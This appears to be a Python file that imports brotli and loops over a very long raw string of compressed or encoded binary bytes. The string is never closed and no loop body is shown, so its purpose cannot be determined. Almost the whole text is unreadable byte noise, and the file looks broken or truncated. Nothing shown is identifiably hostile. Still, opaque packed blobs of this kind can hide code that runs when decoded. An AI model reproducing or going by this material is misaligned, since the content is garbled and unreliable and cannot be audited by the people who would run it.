import brotli
n=a=0;b=1
for c in r'''42%m~tYbŋ"ja8'bB1X:Y݁[xDzNкkw׶_u]w63VH׉Dm	bk*@'\؁g 1p&VZW(ٷ2tkk&[IR݀
47&6{KMhi__8ʆ~؍9ViQ~S5u:hH9Iz'rc3	wh}C#$!Oi}Cއ(޷ej/!N$ʹJj,pL?4?i4 $oll	Tl͋ Q?A6L:7^ܲO:<pX+8i&הtvknٛx05<E\Ïiy*͹kJMcFRY_Lt]ՠƯGm3LD
/s4dokl,
:IsɞA{oڜ3d,9-FtVRDo717
1@fy5qУB$mW<׺Rr.^X0-+i>*4<{&7g?Ϲ7zW&U*D7Ou8Hۊ~7B_`!]%؉ɮy"=߲GA.lΰףx|*[o&yTydL_P^ū:h4wX8UCbx&+>>Ȅǀ )[H}9Hǖ\Q*IcӀ޺5+Xqڊp&|!yԩc/6e}UÉQWՈsҞdJiukUOͳx$,EQ#
#i݆dwC01~g\uϮ1SzXx.:9:\BDJn	hþʫӶ>+N8V	aiʌ(bR-ƴ;/dݫ7YPɐXqRWy~)[{OV6.(t6qw	q@OlJ:"	l5ʯNd7:la.I	a37MS:ǕJget%Aۂ"ΊES9Us¢֝),a8/&Z&]9xd9G+|fuܓ{Wu<Ilv1֠yB;MO˽H?d-МU<ӹFOZ*Z(Q?!enq~k޲Ź)̕kC~&D[eai3(,vײ=!EM^(fĠeS}_7DTxޛ'Թ3τq,Uޚ+,o7	WEwH־p3y
D%j=B&HƎW!ZbCtE͖<¡}[һ$lhUC4;(}DI/'- `>C[zBƐC"{c:$1=ӡ;	J۲TUl;rɬVɂfУ}}5VTkQҦc/nehFcn7ź+P5_/QneBTdȵS8P/ceޡTc X|j;ĿS<8@#WX̆\٭>+Yz
`j'2ע́14h*e(Nh7323$!Vhl"%n՜ޘ֜x-4dMٮÍ\i\ً("t~4LX>}}Ǟl0{Ϩ>7|}ܱ29c7\fRYē*Ma˸5gb9,pD ^<Αʒfibn@fhzgeƂS(C)ȏcOJx#tg)HS}9η+IUeB0`bY`/R&^ۈЛ0w#49]c7lCdpƧTuv}տ/>ՓXn5F~NFW$r-J(ODo'2Y>^oՑSB`&X$`#ZFSŐ#5d6~o F/M9'3\g1dM|Z"hj#= gD66ɦLGԤ@FNsXl_2+;^X`:(̐T2\?ֿӃl`JOYs>Sn&$@Nbیo4Hx˱2P(HT,z/G1PǺfX8VfwsǽhnO4ڽEК͝CO3$izؔ4(}l
5h!IZdBer?Da, ߙ{rG͝B]RgTLF*X1ڗY*7-Z27]
!D`(M-t<pT؏PgkE4+\0#й;;$;P|Eɸ("͎ѝ;H[w̉_V#R:R	՝'vEQֽϩi}Č}YXwU&u$TSZ;qcS-/aw+nkà#O&-חE1!'/E5l{Q*}ˏsR3X/?5Zr)S2F<7
C{OmAj-ȠJ	\t%j>TԘD'wqX.q;f,su^́nT*.^[XźGԠ1!}WK]lUSo\/uuhĢ#:Yx9>0<b5AIN26zwOONG?]xsIܠk\^v*| uϒAG,(Z[)^ޮq>#:WLKDK/%6V*hå]LMׯWw%T,S-̳? .Do)OE{ż_5Pt	&6zڟoǪπd`'h
4Qx;G%wN+"R<"bOm<hƒ'cC7T\C?,ї1%FΗ}qտhtRe~++g7ۅ~.Pe:cDlQML`	ՁR($1d(D%.cm,v:γݿRVƫJ6=&^ tj[؋wAî7^e5͓:ezACIk(/vݎ>\ʶ.ԢѽUqkA;kn{_ɡ|d$<
;77UXV܆1h>j<	r2)Ԛ(DRЧ<8moeB_+O\~Mi_OHhX RMa.Pp)1ӓȺZRҚ	nsЯ\/M,\G*Q:fVհ	hhǱܰcIÎzϟوMB4[2C˖P)DѱpK <=|WLsv\t.>lhMEů&&KJg2ϭot>o͚7ں74\T8S:}	-]hbM:@ڄbHdZ?2qA[jhq&3n:z(Ϳ(YXAxaڵ>~߬yg#&xߧߙdwPfYt5k:UۣTc>GʣдdGZ5VXJεYB qŒM|ȈVZjÅgu6TƘg$rX"֩Cf=r	_y4}޵~zθzwM97X.J/O-{Ϡ*-5>ֽ%\=lAvXh#n1\qn]p%2?]`ҷɺl6I#%3j$cKè՟C3){w=K9pwÎ=%M/	o0-`i"7ۇʫxҫpk9;Qoo|/uA	Va!ށ~2-}Afe
VCNs>.n̿ˎ8|U3ߍ(OϏyyߐŖ>BtEzfx02
Bič|U{bʍ1Hgs͖Rh۞V~&!>"rGEӞt4٥0R!W"'1CC	ʗ2˹mG5-vLͿučZ'a*ȥwq//P̊Es$,2Ʊ?~Zn[J ϽF2x$L:{K>iORv's6IEl;An'v	"Īb!
!e2ַ/X3:|ߖ)͓;:TЌ9g\IuGjgo$D(=J5[ͪ \/n՚$ɼJ΋CaRS|sXĞȱkȉǓF˚x!]bMmgPK@Jv|(Ci:WVw:c]OxΝZ+ɇGg-=9>f4?֘U	r}jĉá͉Pr7҄OEG|*͉3ƹYWpn'hߣ-?c%qaҞh=δr"S^әhGpy	5WlhXh3oǂn!ʸQϲ5$<nYF~X<#pjw`=Zk=ب+f*1˂QW#L)Йq+SAH2DVsҶ'i\QfE	VYV5	2)11"FsjDs#ZD©2:djɺ-9T~\tcÀbPkGl27r3Y}Ph߹:@QԽc*Pg-"O~vQ%lVӺ<~0MR,B8ӡ)aR(̚_i5@7<fˊ3LzlEǘkݧ-eݓ5܍9tARPvB`0<,i'#p	eM(._ۙU4L+->,{Qʑ*aHhˍWhރkBP,
dgy5Ad\__9U#9rI5M46,6Ij:ϬC"74ʾ%=mDI=f mtӅ;{PYM b?׏*x.D`
w˛$k~7^hэ\qdXvu7V_]dmLMXr?TM^?@͟@uI %ϸ|է+Fg%h3<c$FIN-_ҝ1O4WR+/9mnDwwFgPW[O):v5,èΧc:7Uٮ[ 0C;R;nYGyʔj@>oˆ޹TjIQ|1^%ΪbMZZc;p;\[[9O	KcIyYxS$`(v	g1Pi!U+8}w7u̓ԪG.FWd6[*O_ǀ@d9@HL_K,,"IWq}p.#	-!Z*Vd۩dIi.>ܴƆVɥj	rގ.>,B|nlլݳV8i;Gq2|&<̖Ǻx3la;&Na/LƝ̖1=6smf^7PpXālџAQ2ʖxƪ˒"8rӺt)/ٞiϼ	Np?eRMN$kSd2ז*;H*ϡL46M%hO;B^iSF7.N%X|B\)94q@de5Z+a3۲=nT)*|;fRGسª@=ϋ;KY4?;DʍM^Ƨmzfi(d=+m/A;N]QYLr:x^>_Anݪ*(qTvafq&yv#άE_:*T5g ܆ZCNiy)9\>ۄQʊtY?KRۢ"7yyݨY\>_\XB@sZǫ2OÉL<<+T<}Qt=P ְ]XӅ1ej2!ox۹ff?O-'ImMjP6@Qa!jŏU/jWo5:	%{b(G{HcT"r;Wҥߺ'E\f/%;W0ķZIVzyL;&Xv>ڸ_JL7Pmiwle?e:lFjymUr+VtF
"]m!¬PgX2,C}9VLlkXl|tңݑ\/O	heٔ,Kt7,ر=v5I]Iȡ</6#}Us9H	FYJ,.r{Zw|^&C,`C?!,<pJӉ)^/LÎa9ͻ{<[$<@̏DaKד3>|	bK{ْ6:VVͥ\=J;ScC<7*:cg1q[سnaRd!67Q
^ўÔvkZSݢfIe-z1";R\*co^<;d<Wü	Mt,xFGF>VRgw((c,rtv7ʭ7a&<Ejc[evFwnןA%on۫ӰUSˇf*Ú҃υu>N5#ݗ7m@`%>-p2ڝ֣WIݮGQX\4zH@t.2V"zgܑ@z>߽p2<zȰO_ƅ8P6љ()J] ˛E\}S>wVա΄Zٷp=1dA֓f<Z){\L`VhkAtIBVmm@tPA͙q^L),R-Eś3tD"v<dR
P3!/w~|Q=(/k0fF5	˓7D-dgģq!ٸVsb-­1DIԆXq!k Xhn@)˦-F\\_nzܣhWV1_<҄Q1UL$/%#=BؼέBZ&2ɑ([D0KQId%ym<b[iބC$"]or<ێ=D:O>xlx2Y{"V>d6Ft0Cdq1\bȔ\Gfwܠ9m-~u~2yM]b*D?$Q&ۿޤ/{F2̡qm&~Iې$£cFL[big۷=Tjѥ8`Gʎm+:L[ebk@]e.ȲY*Fbe
ݳԨ1Lyn*'lnր(:-.vf)E0
ޱxT=}! ^%k+mBX۞;
z+gSJ cqdҘ[3UT21#ݟ"RXXF.,Ǿ(+؍lKԏ~Λ؊	LSÒZzU98AckIjXT0|CL41+$:)2aϻXKy0Ӥtѿ uS)	?$n$B{uֲna{)Sl|i?2˱jt%\ĒWt`F7fs>ޱ*

K̩FPW WP!C_~?ʈ	A"^i*ܘ/#-^A>&oωƝBD/?Sާ?Q>$}>h-k]1H(F2'	k{!ױ"=Ve	=͇ȋ]=7>87e
.=y^\}a{D/H.oykХM\%rM +*4MPvзǋ$٫Vyy(?#J=dFIΤqCJSHzς_!Mۗ1!-VrHhؑSKۭЬO	7G*Q'J_؆̾^PD%YWY{֗*Am1vvb*-*؞7lv9$G@wX,¸{y{k*1ܛ'0V|v#)eMϦg4ؼVOq67A6 ܲt?!
ΉaYfԥyz>P܌#)PE'FMgD yϯ <ͅϼQ'v$`_޿,`=wle#K܃-<1L<+|@qeȒ~G,`9iv_&+5LWM-_>t܉رygȩCԷ%Itg؜۶7*΃˘<PٓXL@/Z.UF2G1ӑvԛәvg'A
ծ^A<=)mc^htlusxûé)~[oo/z8~ej7Ñ0eqۖ˽WΘHШ!ٿطa,bjN `tBS[ <=nw	0|g(ȼT.IC++kBKj-io	KxJpU<L62NKa[9d]߹O/C<;G(sܯe.36;l_#.9wۡBrӼ~#-oЙ:zUkѹוƗK7k^\͕ΔKvʞ(aO%Y|s,Yld/`l0GQ7t>%g6Que5]+cL{--2CC6ڙwW?uivϞ`M6ܱf>~/"H?\2ϊQ.wx0c2˝ѥw)=P@}ʃB{=2I~rJUXRXr'uF~h:$%QWtq@p&J'E&Սxk{3{Vzt۬(9A15Ǯsgw>TeL.kτ5XK	G	nΎI_F"e۹+El{6Q3\J9W#fWlF4i@|":
ox`ح֨+ڐQx	};e]E`Z2WI|cس4|{JDL,O;pNx2Kv؁^ՌCͦԪ܄#UqBTӭąEGeo0`(5U\?m@N]$	Ng4R$߄<#~&Ji0;M:^"l8¦iTՓgͲEF530ib:N}>j.{[GpYScҴ.F$g&8ʥ2i|vXO]9U_&.
>*$XQ|Ox3j+(U n)čl:BBI'aݸk·)ڈёf؈̻ǫ" j߃(>͉56
xnV>=P]DDT*wʕ'5$=Rkj;>y:F*a>-(jLIgZefmM"+ٿ!ҖLł7)aplڪYiaӸNJ^m̵+-^*rB0^Ɗj4Yמ|!wХ
1QBs;tT
"],DHӭw:E?F~[MـW4{d Ud_!HǆR3_WLR9~Շ'hG}lx:
a=8~<3IQI"_u[*C)YvpʉޠUطP/Ҩ#eDLstѩ{q	KHu[_hNdXf_&n%MWKkͬ2/	 d8{,+ʥW6Z8Z3YgBE߄UէCļTD[@M/I`56YL/3#s?Yg͑¾w`vc6\S|nH{FWZ}LjcR+1`ӔUEG_?=t%W:zq"\^r&pIBrR	7śiQ+yB [IreUB\~_A&6rwׄAזQ/l~KNS2{LmA~׫C")wW_:߭(*bΕc#,ז_"T$}
<N+u`ho{'BA#߀JgyI|ң%ҁ~@EnpgA
/F&8&w6ؓS_AI߰5̯>(8|J'0sR@k\XeKzsFؖkfBq6ffMљPIRYб~2ڗEC.2<A+'Qp,s_Ԗa9YeDoJuHs.ƒ\wb&O9kWF7`h@ӄ>~x5X_e*҈`XfNIhUs1C8lG?xah@PT4صȉ.GMyLc6~-6kqqS8όFG4	+pUai#S%Ozf\?ou3dgv%Pt 8v@Ǧ
^]ߓ_݉{+AH`&$gGz׳;Wg~x6Ym)uA)K݋8ׂ
JVMUibԂTY,244/(CClUӹk0n$n#;5h(
su͒p3+s[Xy2'x5eÍWľe+Ԁ
N)qɧ^o$H#Y٠ՠ8׈@f3ig A*wU}\dAb#%t*Pة)-1|i6c03ёrFצI/2dXyZ'Gycnwڂ'fw9+T)2ܾY2\Dż|+9ޡ6`FOr8֢O\(MnXN@k^B0ʶ?&c{bQwbbӦ[Qe5G_qqկ؇|U}vM2OZ.֣n
RU,"ӽ	lln-Е14ukffD0K|r/:TD2<2wsϦŅϟƔ$n*Zz=kM@,ˌj 1VjŔ/~C([f{u&́)0X^̛)Hh*S,޻$*+=ÿT$cHAF>q8\w*ݵ^&΂n-Oޓ_+vm)+L_ƴMSM<SlTH/X~݃-g8S^^׬2׏LL.$9
h+0˪)\yѵ6SKP8ֆ3oa<-Dv~5hefȲ*nqܦcLB0cSz?Jj׶լ(*wi?m5p/i6_&Sڝ?ť9,	~P$LR9?{rPAZk4ܭIfE?fҬCϤ9Π7DqѦv#h8{#7Ҽ#tI&hҴ,#vGh,	S,W}ӖU5tkcڹq%6wP }cx$._r֧'{z<A	0MW#ݛPFQk	lQx'ݯdYƚѸ9Ա52(m$,s0|?Kо!kTZv
ì~/͠
E+[3,j|ЫP?G7k`ؘݠS+ʈP}f9*ЄGbGǧHpAQ)̡cTP7Rb=$P}k`6?}Uhpl~FN{1L>dq8fhSx*@1z1Ȗp-P3^G1ܨj=s O50V"#/bN̏3JN7_i5zwعp2V\kb2i22O8D~Xώ[ϷӈIh	`gamF(GuL|mJx]U"I.ZjQdCy~+	1`H"XTAb%mtk!W`]X!m,b|٥.& `OV;YIƸTzh#qu<_w55zŴaݡLimv$m@ `SpƋn|Gc\oЍ#/qQh+x{ȸY1ǸK6NhRP
t+Ji٦ fŇ~	{'BoYNQ:OdЍ	͉rrVV9yf5!.u(E4:ؚ"fPv3F)Ò5NB@e373͸+ޒp1ўƫs%cR,I֣d|Ggf8g/9).͎vyǧTyUfoXǧ@2=#nE>1څ(/!$^?p% ;W%PEhMz?~neoCPňM)ï*ɃPpKGLB62ZV;fv;cr4ީ%S{oѵXS3]&ķ3"B7ָ`>BDyokNf(ݙʳ!9o~2`.|:tc!l4|BS af;={)9VJSiByXp_0z&@2x`wq`&JFk=ԛ?R|/3Q10̀oAwS>սŨx/\lmţȎ$HaǇzx1\LlSrvL`0;=A5R+LK4ϙ&@0S4a	4f2xr$ȫM6K`=mƩD%MP\1(		<GiQB[Imڝ7slܧt'dJZN+r ċqC֢WΜGpG8)@fđ2j'vxHG}ϕQ<19wPDHE|ج	Z6jSN\Ao!7toh9_͚©=anS	ݭZ$" wՃ'"y_R޶pA	ܤÉԡۃ]ި&ádsDZ7[qg8rTImM\Ňx!UϦ@b>߻l>DyqxFQu
p}}c	t=	"",6Ӕ2{s'Wmf[ͧ#54'rϭR0_>/NI:sM<VRsӬABjaWxGˇ**\zxs<uS6j9"x,5:)/-a82%tSGF5tOͺZHdm;GTeW07πw6/آ=ͮf~;ܡ/̯F-иsÁ2p˛o@kM9MIM@nEŌ)_v8-L'eYkY'Kͨq{6/}j}A͆ϺόķfZX{unyVB#͹vnF=ȉNcޣZ)2ʖ:?;¦tзeVSY\	rnkod"]u2ƴn>A1lbLkBU,ÖŶ<̤n;1Ϝz6k:;z{ MW0Z}"?A8pL[ӡ{Pj~~!ZuGo<CҦBs""!q΄k{2rSˢ3%sa&EsYb\xr@$~ܭEI4X>̥قPeКӪZ
=;[a~pԟ£S;z3~<}\Á's5̄u}ކtPGĹ#kt۲ [Y5ޝb-	"޿i=فkk`'s0ص'Ź#s\
/<)=f&F*K>lҎйߤ'nJN},եAs3*:)*.<>͌<1bmv]RO=#2XPIYjf|ˌq@)H=,
͎Ĉ'UiTJ63q3G'N҄bkhrK"IΆ^cEsek
hǢ(]tg֠t5b^^Ǯ<VG]iՇZIy)$šfz7w1ʀNPbJ61:oëM\jD)ڻ6lL/eӵ;-=ܥ	s3&ŅZFwS@rw5IԥKuϥ7|d?#k;z<})WnsdOʰ&̤ٮ	B+μ ,vQ@3[ڪsǣ#-ܝ2/ǘZw5:${OfN`ڒRnf]ZE+%\g{ĈYzz$޸?5Uc܇7q0̬IfKEbRunֲ~n?l@ɬ=֣ف]sȕ,'ʖ[r"9dJȥɀ5lOsX˿x"S(^{;U6OF\?7J$ɗ3f֒5f0:x5M	>g{@lM}?9>r'SUWjo5]&p"ܭ6%R{!OB2\j?b{9{i6e666lEژNldjyR~kQ(^8oהqV|JMÌG64#;,FC/a+J|ʏsp;ԈI}]5̛pS	ޓxFm)o|ڥy,רNݱ,1')|Бσ}5WKS	>oX*WqU8~JNXվ8(?5x79G>ں~BAۀ%R@S˿L(L^܇ޙm8{%VF1mM:3QtR8t۪lcskސ41Xˢ
;.ҤɉDyZP]0ȏGO!ξ>
1ie߃SfOHCq-OVulȮN OUD?¹k54Q.>M~_e/EE)oi<}ƢA|VkZqm:vhNiba,|]MR,dcNQKۤs͵S;BRSqSgc];acɨ	ch5fQ̕X%HnE8 )4Dt-,K|>\˖چ[݊=B`48Ӯӡ0uF m@e/PњUdm
~]NXNUED$RJnS(EDىsRF!>c#vW5-p. p\+*KB6~cɃT4qI8ؔ/Wa*h>Pؔ5CcV$1Og 11c9߳W̰|ڶ6>xk-U;b%v3\/P	Ψ`q>h(1aCHʈGVucuD)r`|lHt;Ρ֨</>4`R~ ԮC<Kդv8I%΅X w =DB|϶ؼoNtMG.WiP5֣`՟RKv?:|=ՌcTEI:˹gMeP(6x0}B:1zG{CMڵgU&(]33	evcBgFv\uL-vGw(֏sʞYÐysB7+M{O׀Vq
zNԗ+{=crzئ6sX!јє8"7a?:+"T&[+5JfsQrӊ6TKqKN
s8|̓~qB˕e+i"-yU~(QŰs J"(d/`8wo{S6xRhcBX|*(?NG]ȌVzyX݄BfPNƶTsaUњzkBպmuc	-GP9-aèÈ$T<]@(ۏї#~qu?gBiTCnvlZTrq{Ƨi&4ЀpvWo+´|ȱ>+@ťO$?fAǦzjehDAΡUg$ח>3d)OO]=S2&H%Q]=K\b5UxҡK|&J93	f;tSZDV:G	Ҋ0n~JGiՅTr"]gy'Q%9u!DNJǤ?@˞gѦ9zs$;2+lر]2SҡB"HlpGYw09#y_DizʩWOؐ3I"wb֩AaYZ_@zҘɺʀQ +9ʹɭk%N>z,EGQOkM3<s\^uTMgLs;@0yOaZO~5J[4Uh.s:΢Y&. hfv}S}Q O_=խ"X	^vk<i.t{r=ֳXZܴM9Ǖz'jIX_8{{8u#>*L6%HE|1o:o)'wɺеiM&s.=DZ<*}GբWHm2$e/}+KA*jṿlߔ2h)&;rO֌OȶyM*^T,`ϼLƋo~7܁х˟*"^{Sã%%ojt6]yA2RoHiYs_{'h۞>rbG6ё}jeW֤KOvQ
Py.=j+p;\fۿ
/xy7og+4szNyȕaWR֧{9j_M@˸Jsl ZI?ɡˡΉsu}fϳ_U?F̷s@.][A>=۲/u(l8QtNUě4/AS;3d<naCsWa*&͏]Re(Cm~aACݯݻɴ+Mlsu8.b$H=پLhʈߥm#f8Q%(|]tn'4M
pg44V_]vFp0ƵtEb<-=og/x
@^ȺLg݈g҈2ܩW>K)ƨ|-@j+y6p0г&Ï-I\rQS3QY=ۿ1GXޝgE2o^C8OT-_piԛ,*)1@qjޠNɟuf"}</5I$}o.<.١>%mn5s5,t3Cq,t(ªvg
w!M8fE߈֍Ɛ<,;ZCbF:_"J	X(4)Mģ۔-|V93t,kKuTH.L`6L.E٭
H)ه4$DZu,$Ξ7e7G@֔0~=	EVV.jd݂eB4}KGIjZbۄz=419:h8ȩo_;X΃T99P>%|=KAmY?$ʆ9vL9:W\O4{߶Lbxe~f/\AI2>~gOm~(rSZT/aԬ>#dȕW^Fʗ_Fj'x)t}@SOpDkv.g9Ke\3aKp/Փ*]Bxez` ȺNEzƴΰ_U#xDWN޹)Օ?r
"Sv**Z57 HȕJЏ$`>vL;c?ȍ,?{%2]΋~IAܮ*tIܯȽ{6jgQ-44Pr8;I_~.%uYoVڄD[IC#J3ۄGdXW~Zl[?!ΈWU&I70jy4vhUozCLAM9@hB6)m_6nǁY$-+A2nZX6mU݆=̩FfRn)e%UtFUAXdvзPy%iCAؽle&͡^3g ŮjBBaنqQǭcB*N{g=Q1؈{yzP=\P<яwpK1k׎aXou$ϴ}6R׉>PJU
ϠnpU&Rpa{˄850լMNAњ@'#&}]ˇ*[&[Wǈ5asG@֣o8:ϻKCS| ۩XHAHď݁Iڻ9)sa{ȩ	@i,lGJɢԈ_ۊ#d|Ou!lnjۙ8أEKZkOh3'3*8oȟ]/n$](Ƙ;6KD=hIl)˟>s{QJ·±#W^օi2Qr2^x_*pKΖ²MOuߚ[% ˆƀ#s@i#bSF5ڻjq7TuZ%0k	e?77|%mW!k>;rs, *h"},TISڭ1Ңdt:Ht+zw7̢@RVLWp3O/
0(I̘!;hGvkUSm]~GadLh;fr' &{Z`+:`8IKޜ8<Mmz/pP>#x$^ӼZ1Dr&UV]:H:88y&;99g>HԄgs.٫[l*Ȑ<E΃HP׋66,tƏJ	A4~gSu7Ҥg:|	I>3\9χbEgF֔EúcpVڗܖ"TV&Kӌc$!y<k_.y"`ۨQV;ӊll,Wu8ctҞa!sܭv)m9CrctO}euGnw˖w)Vjt'̒7@̥O89%AGAwմ3|&ܜϓ(EcDCt3ɪAȼ\ESJ޼uvfЦ&isbsa͐6_k4eݐ1PJ.Jشid\taCDC0cbs~Z\SIYVX!]Kb0~"a(ܽ`ϻL*w*4I1w ǇMw.	+J еT
N%vTNŽ,[3c	)V2,@XhFPsvM̼^2Dߦ%gzA)%6J>5?>;bnR׿QkSzȆ#ݫz'کզ=?$ɠQ~4\!1TR[-NFY|mwP2T׎X(Zadf52RC*8/\&ԫ*]Ve'$Fo|O{<toK/]"fd|rpt&9unrY؛"AI-	J=Kng۪<3zm2]Ƕ(K\aڊ.9CTXjx(.E<Aszلf6*3q
3LQE̷y܁_XRܰbn4ٟb;SڟF;4@u3pW~t1?e$`[­qK`EQ )!Oq3T3Z[zeۆM>WɦU,#Cg~P"	H:Hirԧu\߄/Uc+q7	>Қi%
\YWd[L'PlOzhM,ҦW8;#kȽ
-caNғHA<̢Wa[ʪf݇&]e0~زٔN%iX{hӳ$"8
>^wvɫV-=29'Cj(nk6?ȿ+#چ\4$5d2@ul$~s?>~Oʎ=W}TyX_bIuQְm*MQϼqem3D4ŋWz^Ȕ=vzZlD¢E5ڼ~L:R`M4̑!REڐwo}d
,yy[71ο,ȠМ7ڭ8Ϋ>ls;T>u\Ԣ!:zXМKˊhZ^rM!ѭG9ɏ.kenժj,7tY*WP?9~٫ZxyAY{kհŉǆXF5V-Ċ?.LOcttMB6z@qj޻w9Dֽ'+/*
F, 8U%/<!#8\ZʒOAN`eO$z`XBATA3T;ާH&`m[^§@r3I=c~(Ȩ@}M4W.P:#ЈD16vhÈܠQºGDG2y9̐?gyX!XlIVz'*s;K4gz8fsugǯZ#ٱ܀Påϛ1V?2 F1T#5=Kٿ
ʅGf(]25&] >H8Q_b8f2dJi]"~:C,pM0ɏNa*֓8"2z:,+g,oGM[:*5^?ؿ˖d9d+޲<+)1]z֐93Xr'mǬ{o3MPFu$v^Gu`zPrP	;Ng	ܰu2"2v3j&y6
.֯?G <I
FjDz+On-&NȀTȧ̯'
{O#6aEmߞjϚfULWX/i{1W{H#yV٪ &=T'!l;	֧HmPz)AP]u3Ȝ|GC=?uH*Y\.BLMQydZ*\˔f`dg(:.@Ap)])'9gG+	tsa~ fY΁boq)yƿ|G,=qH?.xnr;t͵#a@f_R(}e&Ȟ@c#ٹct5bl4Y|OulȰn"޻@	Hv%q&";©ٜgiU,UnrM{lEWGOc̵sLh^j$S#Kl6Z)Z׻`ia<y|ƮћDQV=Vf1ZcͿA{_DT8!MT%6cF@|ɗݵe	LT^w=4lo5 )?# |nbѮ,={ߩUgȞ{Ɍ#0͘GգnMr
*CΊsi-S&'?Tt1M! x˚_(#]׽HBNߔ)t-wB֮]L:Eq?lȕNpʾ +xu=MrrzTH|dܯE-rY}-O+0MGWv$[.?1̪֤dQ٭nkclg5Ų3I}5*?L%Ɇi\IhpԞц4uȿlh=>"'<W2?Rϊݮ8B2ŀCnESel4gn"b&G<T;&%eӷ.%οͦ!b7~QUnFEP_|M-tǇ Zv	\);ŏXѐRŔss+Exp{qsHxlS+\0p4o/ZBc
!I~"EE?J%\m4z6ʵP7`f%=˓UސaDap,vO]ţ$tLV@>ۛ`[_j;N5،T[I?_/D]^*X~2d7
"F#.=eeuIc{^f4g\]	޴$ۻ1("']gkTطd6\S3|,ЫIW_S66݇IGNDz
vUzDS>zyt͛OpB-ʼ}9hD_N6@yۘYDUUaDڅm׌f[H0FBEŧN߮lNq6k0!8\w%l808jEKɆmnR۬#LͥU&}Y:Pi2:geQi	9W`C;4߇۶ۏcCܐ?ɏ#͝)!Ŕ/$XqBCTQ4z@kLjɛϺQN;cx̮h/ѽ2.Xٞ33'Jy}Ժϥ[zNGjDU]ga R_04I*;&½jKADpj:L|̢FHˊ,HQ9"!&z%ŃuCѶ,^;¼a<ݹ87trʒfO)Є^jfEf#I#,MWUudUHg_t'IśQ%ˀ	6863]?P؅{]c1ܘΐs'm2Ihk.x]S7#i
-^x2hllhc(m5=#0dG/tDF$fIZ|..WXVjs)":tq$GO`#*kp]bΌ0yȢɅ|QiIV0)J9-Y!/BbݱiTl@؅qeMje])^Ai,0Jfqͨ0KnM$,lK(< ی>PYB@x=#ء&it#n8BCTYM6p\_l.cmWdCݸZyF?E`nkoPgeCg6΄HkC1OΝOy[`HpOe#sRMe6!T"Tõ)و
rpk)yAIg&ǂ٫tRfOFUC}9ӷEiByDĀm8RQzߎm+T{ڋ.ݞKcJ0rqSY~ƘİF`S~on>GF6S3.bJaטfLe,&%GYTnD\Ag&vĹRLwGǹI$:ra@_H2/W߱F+ij0=c(`NNʮzݷ%d9ׂj[,j2T=JMbq4s.\Dǈ]tvb*YmR<*}.m͒Gc	U7=GSLOK_ܣJ<&ҙv`iڻ8OK%ݠ^'Fr*Yigc*n!;3Ud;SnYՔHܤ@F*hs/oT&`l~d))"f=ҍs̈mOot
b%ƍ
F1G[Dc,Ju}wisgS1Vʒ/VSgb/mօjF-'i2NGm݇Yv	89@
&!:n0&Yh/3k'Ш!ƨ߰m.;B'ȴvMAԇ^ݏ=Xʁx t!snep+0]w߫I(zI#|R<^.9,(SV5\CU.RŊZrLīݕ!"ǒI=:vsǣqn\cW`qk!\1v$ߘ@f}ÄTpĔ#ЖwQha>(+Q%|9!4yozưp*TBSe^T:y@8qnκ8Zcrǟ?^:~9ºwW
3A+i9IШ9
?ڐdq8\TݾK.&M5GXG=a/y8Zwf,qξ@x+9ZX+N˄zm0QJYը!I0Vܑ@
YiLм`~-9MYUGN`V(,#YGTL͸6#zFwT,yv{Tɮ\Hex׮C_ٔZ9Qa5vpC˜@ї*oUxy~9{.MZJ@y߹&lm"ȺΩܮUd'~kkDG`t'Ot`Ζ+֦pĶhTeX	OLh`UW9P<gսRR
1$U=U;&<x/^GԓC%9fa/:=2jɶZQNehwZUےʴ6мj5't;h;y-~3!Wߛ{Qh]W.0%JU؀9͊nߧ%].p8AǨnj'
Ū-BI_rrg_׆a]DewBqtϪy13lѱmpo#wNlh1ەM9͉/ݛ Q۪+!g8uԗ_lޅha.JFЖL4#P%pہ~aOS;?KW7̺b.Cϛr,hȫb-1PɥMCeXcXl9Ψ~_61CZc+0ЮJ$OwV~ڊeފ{%Iq7HǭbW*їv?Ļoa(gh,xP{ؗZv#T: 4rV/ʗxIb((zB?µfSh-dg|oBVSӐy9doZՏ4M{z Hhc/i=FS:)aD>=ՎL	e?EDs8ܬ>PRi5r\P-Տn[@YRPXfprc`՟YA8,CR\u´î5Úh.%ҙFzK׉ӭ0UeYϐk%q֟6:7^Ɣ*~(bcs7z<)X9Pg>b,s`-O66*M-l^ޤJ_8ؚ	7ed5ĸmD93FmO1*Ϳ:'o6Ka=fȔ--Ҡ	كPS3ݠ
(Ɖd_sW1d<}D`*Fb :Sm9&^W!tW#4\iSPK|(QLϽi.g!q߭KM@^)ѲH5ɳݾ!!uIby\Wam'HDC3dMڮʶ%?nA
`~=|sTeQk@G}i#6ų	ͅ.Ѹiǵ#uʕdq	XKu|JHmڏ2>ɴ>`teLK"\<'PuEq.b&r	m;rCELMolX0*M;'[cC<f3ϲP.Kf±"j""fB~t,&Ha+Q{+Sn/ۤ(w48R%1MbúJh[n=<DbBcQ^,D!oe_`*E%ʢ%Cpb,mV>Zܯ^֫K,
ԃ%zsEtkle!8;6L 9u|s*%:Z2s+dd;.-?l@qVڰ:nKǳ2UpxwߒۛYfUπ_?Ddru[VЕ'ewt+a?[}m¯WC(wdOe[sޅӵlf78&$ZVY<۶ȅ`#`DEv|+N/+]a4]Xcܑqm$D--?!ǌTF0V=05ύ'+w;(ϜV-JNX,mNnۆrHҿʴΤK¡`A Am=hI;~$5ޮ̇u4EG?H?O4'ǰ|X0Dk}?fƨOzv30\Z`3$"TMռie	ƙ{L8EӒJqmtZ\zN"BFkhUa77:1
[,FԏMےLGcVCfp	J>+)c0P*mߤ"ζh~ؔϩN/*YZncĳٞYʜDFd݆4;J+s"(?;'T>nkѺ^`eAבf(:[%y׃2>gpkh@|tZ'n~1ZOm(%-?W˰GwK:z`ǋQYh2
+ױ?jLJǝuo=ďģ};S';ʉR̼RIn]W<iH+ƶĒ;.>zů_9`خ.%*nu09]6)h~reax?$"SuB1*kRiw8}k$)v%}:UC;޹;x{uUфl&ۄl=]el[D}E1Q#/̉s8}2zN$OPku-9CυwhCB5Mݓ˖R\ƯAںL̆٘9	Ny# hf=/OP%Q̆WgLuSșDSoo^oFۨ<mmzvlBWL:?Bh]Sb4Mؾ~@[Z?'f	"qQҿ)
%d=Jxާ1YN2.a҄mDf
Ҫg&[@}TGͧ]!Grs֣zf;O$tcoIa>q?fZPU_]woчqpq/?yiiut`Z^[˧,ـ{&ܓ8%}-aB*Akk_̐kĬK(.>"qC\IV
